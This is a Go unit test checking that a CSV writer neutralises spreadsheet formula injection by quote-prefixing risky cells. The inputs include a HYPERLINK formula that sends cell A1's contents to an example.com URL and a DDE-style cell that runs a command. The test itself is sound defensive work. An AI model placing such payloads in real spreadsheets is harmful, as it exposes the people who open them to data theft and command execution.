package csv

import (
	"bytes"
	reader "encoding/csv"
	"testing"
)

// What somebody wrote into a scenario is text wherever a spreadsheet reads it.
func TestCSVCellsAreNoFormulas(t *testing.T) {
	for text, want := range map[string]string{
		`=HYPERLINK("http://example.com/?x="&A1,"click")`: `'=HYPERLINK("http://example.com/?x="&A1,"click")`,
		"@SUM(1+1)*cmd|' /C calc'!A0":                     "'@SUM(1+1)*cmd|' /C calc'!A0",
		"+2+3":                                            "'+2+3", "-2+3": "'-2+3", "=1": "'=1", "\t=1": "'\t=1", "\r=1": "'\r=1", "\n=1": "'\n=1",
		" =1": "' =1", "＝1+1": "'＝1+1", "-": "'-", "+": "'+", "-Inf": "'-Inf", "+1e": "'+1e", "-1-1": "'-1-1",
		"-1": "-1", "-0.5": "-0.5", "+3": "+3", "-1.5e-07": "-1.5e-07", "1e+21": "1e+21", "12": "12", "": "",
		"a=b": "a=b", "web, api": "web, api", `say "hi"`: `say "hi"`, "a;=1": "a;=1", "two\nlines": "two\nlines", "esc\x1b[31m": "esc·[31m",
	} {
		var b bytes.Buffer
		if err := Rows(&b, [][]string{{"x", text, "y"}}); err != nil {
			t.Fatal(err)
		}
		r := reader.NewReader(bytes.NewReader(b.Bytes()))
		row, err := r.Read()
		if err != nil || len(row) != 3 || row[0] != "x" || row[2] != "y" {
			t.Fatalf("%q: %q, %v", text, b.String(), err)
		}
		if row[1] != want {
			t.Errorf("%q is read as %q, want %q", text, row[1], want)
		}
	}
}
